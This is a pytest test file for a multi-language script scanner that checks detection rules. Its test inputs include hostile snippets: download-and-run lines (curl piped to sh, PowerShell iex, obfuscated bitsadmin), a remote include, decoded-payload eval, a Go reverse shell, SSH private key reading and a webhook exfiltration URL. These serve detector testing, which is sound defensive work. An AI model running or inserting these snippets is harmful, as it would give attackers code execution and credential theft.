"""What the analyzer for the other languages reports."""

import os

import pytest
from hypothesis import given, strategies as st

from metier.scan.languages.scripts import commands, find
from metier.scan.rules.scripts import RULES

CASES = os.path.join(os.path.dirname(__file__), "..", "..", "rules")


def rules(code: str, lang: str) -> set[str]:
    return {hit.rule for hit in find(code, lang)}


def cases(rule: str) -> list[tuple[str, str, str]]:
    """Return each case file of a rule: its name, its language as its suffix says it, its text."""
    found = []
    for name in sorted(os.listdir(os.path.join(CASES, rule))):
        with open(os.path.join(CASES, rule, name), encoding="utf-8") as file:
            found.append((name.partition(".")[0], name.split(".")[1], file.read()))
    return found


@pytest.mark.parametrize("rule", [rule.id for rule in RULES])
def test_each_rule_finds_its_case_and_leaves_its_near_miss(rule: str) -> None:
    actual = [(name, rule in rules(text, lang)) for name, lang, text in cases(rule)]

    assert [("match", True), ("near", False)] == actual


@pytest.mark.parametrize(
    ("lang", "code", "expected"),
    [
        ("php", "eval(gzinflate(base64_decode($x)));", "SC473"),
        ("php", "$f = base64_decode($x); eval($f);", "SC473"),
        ("php", "preg_replace('/.*/e', $code, '');", "SC471"),
        ("php", "include('https://get.example/a.txt');", "SC472"),
        ("php", "$out = `id`;", "SC470"),
        ("perl", "my $x = `id`;", "SC470"),
        ("perl", "eval decode_base64($x);", "SC473"),
        ("perl", "eval $text;", "SC471"),
        ("lua", "os.execute('ls')", "SC470"),
        ("lua", "loadstring(http.request(u))()", "SC472"),
        ("batch", 'powershell -Command "iex (iwr https://get.example/a)"', "SC472"),
        ("batch", "b^i^t^s^a^d^m^i^n /transfer j https://get.example/a a.exe", "SC482"),
        ("batch", "schtasks /create /tn x /tr y", "SC480"),
        ("applescript", 'do shell script "curl https://get.example/i | sh"', "SC472"),
        ("applescript", 'do shell script "cu" & "rl -s https://get.example/i | sh"', "SC472"),
        ("go", 'out := exec.Command("ls")', "SC470"),
        ("rust", 'let c = Command::new("ls");', "SC470"),
        ("java", 'Runtime.getRuntime().exec("ls");', "SC470"),
        ("go", 'c, _ := net.Dial("tcp", a)\nexec.Command("/bin/sh")', "SC478"),
        ("go", 'key, _ := os.ReadFile("/root/.ssh/id_rsa")', "SC476"),
        ("somethingelse", 'x = "https://webhook.site/0"', "SC483"),
    ],
)
def test_what_each_language_does_is_seen(lang: str, code: str, expected: str) -> None:
    assert expected in rules(code, lang)


def test_a_dialog_that_shows_its_answer_is_no_password_theft() -> None:
    code = 'display dialog "Name?" default answer "" hidden answer false'

    assert "SC479" not in rules(code, "applescript")


def test_command_lines_are_handed_out_for_the_shell_analyzer() -> None:
    actual = [text for _, _, text in commands('do shell script "ls -l"', "applescript")]

    assert ["ls -l"] == actual


@given(
    st.text(max_size=120),
    st.sampled_from(["php", "perl", "lua", "bat", "applescript", "go", "", "\0"]),
)
def test_no_text_makes_it_raise(code: str, lang: str) -> None:
    hits = find(code, lang)

    assert all(0 <= hit.start <= hit.end <= len(code) for hit in hits)
